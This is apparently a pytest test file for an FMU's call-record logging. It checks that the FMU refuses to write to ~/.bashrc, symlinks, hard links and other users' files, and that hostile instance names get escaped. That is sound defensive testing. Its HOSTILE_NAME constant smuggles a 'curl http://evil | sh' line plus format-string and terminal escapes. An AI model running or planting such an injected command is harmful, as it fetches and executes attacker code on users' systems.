"""What a master (or an SSP's author, who names the instances and the parameter values) can make
the FMU write: its call record only, into a file of its own, with every string escaped.

Each case is one a hostile master or file would try, run through fmpy's own FMI classes in both
standards and both interfaces: a record file named where the user keeps a file of their own
(~/.bashrc), a link to it, and an instance name that would start a line of its own in the record
and in the master's log. What the judge reads back is checked against the string the test gave.
"""

import os
import stat
import subprocess
from pathlib import Path

import pytest
from fmpy import extract, read_model_description
from fmpy.fmi2 import FMU2Model, FMU2Slave
from fmpy.fmi3 import FMU3Model, FMU3Slave

from pendulum_fmu.judging._call_record import MARKER, read_calls

ROOT = Path(__file__).resolve().parent.parent
VARIABLE_NAMES = {0: "torque"}
# An SSP component name or fmpy instanceName that, unescaped, puts a command on a line of its own
# in the file it lands in, ends the quotes the name sits in, and asks a master's printf-style
# logger to read an argument that is not there.
HOSTILE_NAME = "x'\ncurl http://evil | sh #\n\" %s\\ é\r\t\x1b[2J"
BASHRC = "export PATH=$HOME/bin:$PATH\n"

KINDS = [(2, FMU2Slave), (2, FMU2Model), (3, FMU3Slave), (3, FMU3Model)]
KIND_IDS = ["fmi2-cs", "fmi2-me", "fmi3-cs", "fmi3-me"]


@pytest.fixture(scope="module")
def unzipped(fmu, fmu3):
    """{FMI version: (model description, unzipped folder)}."""
    return {version: (read_model_description(str(path)), extract(str(path))) for version, path in ((2, fmu), (3, fmu3))}


def run_instance(unzipped, version, kind, record, name="pendulum"):
    """Instantiate with logging on, set callRecordFile to record, initialize, terminate, free."""
    description, folder = unzipped[version]
    interface = description.coSimulation if kind in (FMU2Slave, FMU3Slave) else description.modelExchange
    instance = kind(
        guid=description.guid,
        unzipDirectory=folder,
        modelIdentifier=interface.modelIdentifier,
        instanceName=name,
    )
    instance.instantiate(loggingOn=True)
    [reference] = [v.valueReference for v in description.modelVariables if v.name == "callRecordFile"]
    instance.setString([reference], [str(record)])
    if version == 2:
        instance.setupExperiment(startTime=0.0)
    instance.enterInitializationMode()
    instance.exitInitializationMode()
    instance.terminate()
    instance.freeInstance()


def warnings_about_the_record(out):
    return [line for line in out.splitlines() if "callRecordFile" in line and line.startswith("[WARNING]")]


@pytest.fixture
def home(tmp_path):
    """A user's home folder with a ~/.bashrc, and a link to it beside it."""
    (tmp_path / ".bashrc").write_text(BASHRC)
    (tmp_path / "calls.log").symlink_to(tmp_path / ".bashrc")
    return tmp_path


@pytest.mark.parametrize(("version", "kind"), KINDS, ids=KIND_IDS)
@pytest.mark.parametrize("named", [".bashrc", "calls.log"], ids=["the-file", "a-link-to-it"])
def test_a_users_file_or_a_link_to_it_is_left_as_it_was(unzipped, home, capsys, version, kind, named):
    run_instance(unzipped, version, kind, home / named, HOSTILE_NAME)
    assert (home / ".bashrc").read_text() == BASHRC
    why = "is not a call record (its first line is not a record line)" if named == ".bashrc" else "is a symbolic link"
    assert warnings_about_the_record(capsys.readouterr().out) == [
        f'[WARNING] fmi{version}SetString: callRecordFile "{home / named}" {why}: the FMU writes no record file '
        "(name a new file, or one of its records)"
    ]


@pytest.mark.parametrize(("version", "kind"), KINDS[::2], ids=KIND_IDS[::2])
def test_a_link_is_not_followed_even_where_it_points_nowhere_or_to_a_record(unzipped, tmp_path, capsys, version, kind):
    run_instance(unzipped, version, kind, tmp_path / "record.log")
    record = (tmp_path / "record.log").read_bytes()
    (tmp_path / "to-record.log").symlink_to(tmp_path / "record.log")
    (tmp_path / "dangling.log").symlink_to(tmp_path / "would-be-made.log")
    for name in ("to-record.log", "dangling.log"):
        run_instance(unzipped, version, kind, tmp_path / name)
    assert (tmp_path / "record.log").read_bytes() == record
    assert not (tmp_path / "would-be-made.log").exists()
    assert [line.split(" is ")[1] for line in warnings_about_the_record(capsys.readouterr().out)] == [
        "a symbolic link: the FMU writes no record file (name a new file, or one of its records)"
    ] * 2


@pytest.mark.parametrize(("version", "kind"), KINDS, ids=KIND_IDS)
def test_a_hostile_instance_name_is_escaped_in_the_record_and_the_log_and_read_back_exactly(
    unzipped, tmp_path, capsys, version, kind
):
    record = tmp_path / 'it\'s a "record"\n%d.log'
    run_instance(unzipped, version, kind, record, HOSTILE_NAME)
    logged = tmp_path / "master.log"
    logged.write_text(capsys.readouterr().out)
    lines = record.read_text().splitlines()
    # SetString, SetupExperiment (FMI 2.0), EnterInitializationMode, Exit..., Terminate, FreeInstance.
    assert len(lines) == (6 if version == 2 else 5)
    assert all(line.startswith(MARKER) for line in lines)
    # fmpy prints each message as "[OK] message": the same lines, after the instantiation's, which
    # comes before the file is named.
    shown = [line for line in logged.read_text().splitlines() if MARKER in line]
    assert shown[1:] == [f"[OK] {line}" for line in lines]
    assert "Instantiate" in shown[0]
    for source in (record, logged):
        calls = read_calls(source, VARIABLE_NAMES)
        assert {call.instance for call in calls} == {HOSTILE_NAME}
        [set_string] = [call for call in calls if call.name == "SetString"]
        assert set_string.arguments["file"] == str(record)


def test_a_new_record_is_its_owners_alone_and_a_record_of_its_own_is_appended_to(unzipped, tmp_path, capsys):
    record = tmp_path / "calls.log"
    run_instance(unzipped, 2, FMU2Slave, record, "first")
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    run_instance(unzipped, 3, FMU3Slave, record, "second")
    assert [call.instance for call in read_calls(record, VARIABLE_NAMES)] == ["first"] * 6 + ["second"] * 5
    assert warnings_about_the_record(capsys.readouterr().out) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="makes a file of another user, which needs root")
def test_a_record_of_another_user_is_refused(unzipped, tmp_path, capsys):
    record = tmp_path / "calls.log"
    run_instance(unzipped, 2, FMU2Slave, record, "mine")
    os.chown(record, 12345, 12345)
    before = record.read_bytes()
    run_instance(unzipped, 2, FMU2Slave, record)
    assert record.read_bytes() == before
    assert "belongs to another user" in warnings_about_the_record(capsys.readouterr().out)[0]


def test_a_hard_link_to_a_record_is_refused(unzipped, tmp_path, capsys):
    record = tmp_path / "calls.log"
    run_instance(unzipped, 2, FMU2Slave, record)
    os.link(record, tmp_path / "other.log")
    before = record.read_bytes()
    run_instance(unzipped, 2, FMU2Slave, Path(tmp_path / "other.log"))
    assert record.read_bytes() == before
    assert "has other hard links" in warnings_about_the_record(capsys.readouterr().out)[0]


def _escaped_pieces(text: bytes) -> list[str]:
    """The escapes of text's bytes, one per byte, as docs/calls.md defines them."""
    named = {ord("\\"): "\\\\", ord('"'): '\\"', ord("\t"): "\\t", ord("\n"): "\\n", ord("\r"): "\\r"}
    return [
        named[byte] if byte in named else f"\\x{byte:02x}" if byte < 0x20 or byte > 0x7E or byte == 0x25 else chr(byte)
        for byte in text
    ]


def _expected_escape(text: bytes, size: int) -> str:
    pieces = _escaped_pieces(text)
    if size == 0:
        return ""
    if len("".join(pieces)) < size:
        return "".join(pieces)
    kept, room = "", max(size - 4, 0)
    for piece in pieces:
        if len(kept) + len(piece) > room:
            break
        kept += piece
    return kept + ("..." if size > 4 else "")


def test_escape_text_writes_whole_escapes_and_marks_a_cut(tmp_path):
    # escape_text alone, built from its source: every buffer size from none to room to spare.
    program = tmp_path / "escape_text_check"
    subprocess.run(
        [
            "gcc",
            "-std=c99",
            "-Wall",
            "-Wextra",
            "-Werror",
            f"-I{ROOT / 'fmu_src/include'}",
            str(ROOT / "tests/c/escape_text_check.c"),
            str(ROOT / "fmu_src/src/record_file.c"),
            "-o",
            str(program),
        ],
        check=True,
    )
    texts = [b"", b"Pendulum", HOSTILE_NAME.encode(), bytes(range(1, 256)), b"\\" * 9, b'%"%"', "é€".encode()]
    cases = [(text, size) for text in texts for size in range(4 * len(text) + 3)]
    stdin = "".join(f"{size} {text.hex() or '-'}\n" for text, size in cases)
    written = subprocess.run([str(program)], input=stdin, capture_output=True, text=True, check=True).stdout
    assert written.split("\n")[:-1] == [_expected_escape(text, size) for text, size in cases]
